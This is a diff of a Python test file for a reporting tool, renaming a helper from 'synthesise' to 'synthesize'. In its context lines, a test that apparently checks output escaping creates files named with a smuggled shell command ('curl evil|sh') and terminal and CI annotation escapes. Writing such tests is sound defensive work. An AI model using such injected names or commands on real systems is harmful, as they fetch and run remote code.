@@ -23,7 +23,7 @@ from grokpack.core.events import Finished, Started, Warned
 from grokpack.core.exit_status import ExitStatus
 from grokpack.core.finding import Finding
 from grokpack.report import envelope, error_text, github, junit, progress_display, terminal
-from tests.support.checkpoints import synthesise
+from tests.support.checkpoints import synthesize
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -168,7 +168,7 @@ def test_usage_errors_are_shown_escaped(capsys: pytest.CaptureFixture[str]) -> N
 
 
 def test_names_of_files_cannot_speak(tmp_path: Path) -> None:
-    folder = synthesise(tmp_path / "x")
+    folder = synthesize(tmp_path / "x")
     (folder / "tensor0;curl evil|sh;#").write_bytes(b"x")
     (folder / "tensor1\n::error::x\x1b[2J").write_bytes(b"x")
     for form in ("text", "json", "github", "junit"):
